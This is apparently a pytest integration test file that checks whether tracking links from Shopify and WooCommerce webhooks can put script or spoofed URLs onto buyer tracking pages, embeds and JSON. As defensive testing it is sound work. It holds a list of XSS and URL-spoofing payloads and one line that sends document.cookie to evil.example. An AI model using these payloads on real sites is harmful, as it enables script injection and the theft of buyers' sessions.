"""A carrier tracking link from a webhook is an href on buyer pages: a shop (or anyone able to
send it a webhook) must not get a `javascript:` link in front of buyers. The recorded payloads,
mutated, go through the real intake; the tracking page, the embed and the block JSON are read."""
from __future__ import annotations

import json
from html.parser import HTMLParser

import pytest
from sqlalchemy import select

from app.extensions import db
from app.links.tracking_page import tracking_token
from app.models import Order, Shipment, Shop
from connectors.shopify.mapping import parse_webhook as parse_shopify
from connectors.woocommerce.mapping import parse_webhook as parse_woocommerce
from tests.integration.test_block_api import session_token
from tests.integration.test_woocommerce_webhooks import SECRET, wc_headers
from tests.support.factories import add_parcel, make_order
from tests.support.payload_files import fresh_payload, load_payload

EVIL = ["javascript:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "JAVASCRIPT:alert(1)",
        "java\nscript:alert(1)", "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)", "//evil.example/x", "https:evil.example", "https://", "https://@evil.example",
        "https://ups.com@evil.example/", "https://evil.example\\@ups.com/"]
SHOPIFY_BUYER = "115310627314723954"  # the customer of the recorded order


class Hrefs(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.hrefs: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.hrefs += [value for name, value in attrs if name in ("href", "src", "action") and value]


def assert_only_web_links(html: str) -> list[str]:
    hrefs = Hrefs(html).hrefs
    assert "script:" not in html.lower() and "data:text" not in html
    assert all(href.startswith(("https://", "http://", "/")) and not href.startswith("//") for href
               in hrefs), hrefs
    return hrefs


def buyer_outputs(client, order: Order) -> tuple[str, str, dict]:
    """The hosted tracking page, the embed fragment and the JSON twin, as a buyer gets them."""
    token = tracking_token(order)
    page = client.get(f"/t/{token}")
    embed = client.get("/embed/v1/order-status", query_string={"token": token})
    twin = client.get(f"/t/{token}.json")
    assert page.status_code == embed.status_code == twin.status_code == 200
    return page.get_data(as_text=True), embed.get_data(as_text=True), twin.get_json()


def parcel_links(facts: dict) -> list:
    return [p["tracking_url"] for p in facts["modules"]["tracking"]["parcels"]]


# The mapping: where a link enters the model.


@pytest.mark.parametrize("evil", EVIL)
def test_shopify_fulfillment_webhook_drops_a_non_web_tracking_link(evil):
    body = fresh_payload("shopify/fulfillments_create.json", tracking_url=evil, tracking_urls=[evil])
    event = parse_shopify("fulfillments/create", body)
    assert [p.tracking_url for p in event.parcels] == [None]
    assert [p.tracking_number for p in event.parcels] == ["1z827wk74630"]  # the parcel itself stays


@pytest.mark.parametrize("evil", EVIL)
@pytest.mark.parametrize("field", ["custom_tracking_link", "tracking_link"])
def test_woocommerce_tracking_item_drops_a_non_web_link(evil, field):
    payload = json.loads(load_payload("woocommerce/order_completed_tracking.json"))
    item = next(m for m in payload["meta_data"] if m["key"] == "_wc_shipment_tracking_items")["value"][0]
    item[field] = evil
    event = parse_woocommerce("order.updated", json.dumps(payload).encode())
    assert [p.tracking_url for f in event.fulfillments for p in f.parcels] == [None]


def test_a_real_carrier_link_still_comes_through():
    event = parse_shopify("fulfillments/create", fresh_payload("shopify/fulfillments_create.json"))
    assert event.parcels[0].tracking_url.startswith("https://www.ups.com/WebTracking?")


# End to end: webhook → worker → what buyers see.


def test_shopify_webhook_javascript_link_reaches_no_buyer_output(client, shop, post_shopify, run_jobs):
    evil = "javascript:alert(document.domain)"
    assert post_shopify("orders/create", fresh_payload("shopify/orders_create.json"),
                        "evt-o").status_code == 200
    fulfillment = fresh_payload("shopify/fulfillments_create.json", tracking_url=evil, tracking_urls=[evil])
    assert post_shopify("fulfillments/create", fulfillment, "evt-f").status_code == 200
    run_jobs()
    order = db.session.scalars(select(Order)).one()
    assert db.session.scalars(select(Shipment.tracking_url)).all() == [None]

    page, embed, twin = buyer_outputs(client, order)
    ups = "https://www.ups.com/track?loc=de_DE&tracknum=1Z827WK74630"  # the carrier's own page instead
    for html in (page, embed):
        assert ups.replace("&", "&amp;") in html and ups in assert_only_web_links(html)
    assert parcel_links(twin) == [ups]
    block = client.get("/api/v1/order-status",
                       query_string={"order_id": f"gid://shopify/Order/{order.platform_order_id}"},
                       headers={"Authorization": f"Bearer {session_token(sub=SHOPIFY_BUYER)}"})
    assert block.status_code == 200 and "script:" not in block.get_data(as_text=True).lower()
    assert parcel_links(block.get_json()) == [ups]


def test_woocommerce_webhook_javascript_link_reaches_no_buyer_output(client, app, run_jobs):
    shop = Shop(platform="woocommerce", domain="https://laden.example", name="Laden", api_key="ck_test",
                api_secret="cs_test", webhook_secret=SECRET, locale="de")
    db.session.add(shop)
    db.session.commit()
    payload = json.loads(load_payload("woocommerce/order_completed_tracking.json"))
    item = next(m for m in payload["meta_data"] if m["key"] == "_wc_shipment_tracking_items")["value"][0]
    item["custom_tracking_link"] = "javascript:fetch('//evil.example/?'+document.cookie)"
    body = json.dumps(payload).encode()
    assert client.post(f"/webhooks/woocommerce/{shop.shop_key}", data=body,
                       headers=wc_headers(body)).status_code == 200
    run_jobs()
    order = db.session.scalars(select(Order)).one()
    assert db.session.scalars(select(Shipment.tracking_number)).all() == ["9400111899223197428490"]
    assert db.session.scalars(select(Shipment.tracking_url)).all() == [None]

    page, embed, twin = buyer_outputs(client, order)
    assert "9400111899223197428490" in page and "9400111899223197428490" in embed
    assert_only_web_links(page)
    assert_only_web_links(embed)
    assert parcel_links(twin) == [None]  # USPS: no carrier page of ours to fall back on


# Defence in depth: a row stored before the mapping checked links.


@pytest.mark.parametrize("evil", EVIL)
def test_a_stored_bad_link_is_not_presented(client, shop, evil):
    order = make_order(shop, placed_at=None, platform_order_id="820982911946154508")
    order.customer.platform_customer_id = SHOPIFY_BUYER
    add_parcel(order, tracking_number="00340434161094042557", carrier="DHL", tracking_url=evil)
    db.session.commit()
    dhl = "https://www.dhl.de/de/privatkunden/dhl-sendungsverfolgung.html?piececode=00340434161094042557"
    page, embed, twin = buyer_outputs(client, order)
    assert dhl in assert_only_web_links(page) and dhl in assert_only_web_links(embed)
    assert parcel_links(twin) == [dhl]
    block = client.get("/api/v1/order-status",
                       query_string={"order_id": "gid://shopify/Order/820982911946154508"},
                       headers={"Authorization": f"Bearer {session_token(sub=SHOPIFY_BUYER)}"})
    assert parcel_links(block.get_json()) == [dhl]
